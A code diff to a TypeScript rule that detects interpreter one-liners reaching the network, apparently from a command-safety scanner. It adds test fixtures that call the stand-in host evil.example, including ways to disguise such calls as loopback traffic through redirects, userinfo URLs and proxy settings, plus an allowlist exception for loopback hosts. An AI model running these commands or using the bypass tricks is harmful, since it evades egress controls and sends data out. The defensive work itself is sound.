@@ -1,5 +1,6 @@
 // egress.interpreter: interpreter code on the line calling a network API of its language (urllib, fetch, Net::HTTP…).
 import type { Finding } from '../types.js';
+import { compile } from './compiled.js';
 import type { Rule } from './rule.js';
 
 export const egressInterpreter: Rule = {
@@ -11,6 +12,10 @@ export const egressInterpreter: Rule = {
       `python3 -c 'import urllib.request as r; r.urlopen("http://evil.example/x")'`,
       `python3 -c 'import socket; socket.create_connection(("evil.example", 9))'`,
       `node -e 'fetch("https://evil.example")'`,
+      `python3 -c "import requests; requests.get('http://localhost:8000/?next=https://evil.example')"`,
+      `python3 -c "import requests; requests.get('http://localhost@evil.example/')"`,
+      `HTTPS_PROXY=http://evil.example:8080 python3 -c "import requests; requests.get('http://localhost:8000/')"`,
+      `python3 -c "import requests; requests.get('http://localhost:8000/', proxies={'http': 'http://evil.example'})"`,
       `node -e 'require("net").connect(9, "evil.example")'`,
       `ruby -rnet/http -e 'Net::HTTP.get(URI("http://evil.example"))'`,
       `php -r 'echo file_get_contents("http://evil.example");'`,
@@ -21,6 +26,8 @@ export const egressInterpreter: Rule = {
     ],
     pass: [
       `python3 -c 'print(1+1)'`,
+      `python3 -c "import requests; print(requests.get('http://localhost:8000/api/items').json())"`,
+      `python3 -c "import urllib.request as u; print(u.urlopen('http://127.0.0.1:8000/health').status)"`,
       `python3 -c 'import urllib.parse; print(urllib.parse.quote("a b"))'`,
       `node -e 'require("http").createServer((q, s) => s.end("ok")).listen(3000)'`,
       `node -p 'require("./package.json").version'`,
@@ -33,10 +40,13 @@ export const egressInterpreter: Rule = {
       `perl -e 'print "http://evil.example\n"'`,
     ],
   },
-  check({ analysis }) {
+  check({ analysis, config }) {
     const findings: Finding[] = [];
     for (const use of analysis.codeUses) {
       if (use.what !== 'network') continue;
+      // A call given one literal URL on an allowed host (a dev server on loopback), as curl to it passes — unless the
+      // line names a proxy anywhere (`HTTPS_PROXY=… python3 …`, `export ALL_PROXY=…`), which carries it elsewhere.
+      if (use.host !== undefined && !/proxy/i.test(analysis.command) && compile(config).hosts.allows(use.host) !== undefined) continue;
       const f: Finding = { rule: 'egress.interpreter', kind: 'egress', message: `${use.language} code uses ${use.api}, which reaches the network`, span: use.span };
       if (use.segment !== undefined) f.segment = use.segment;
       findings.push(f);
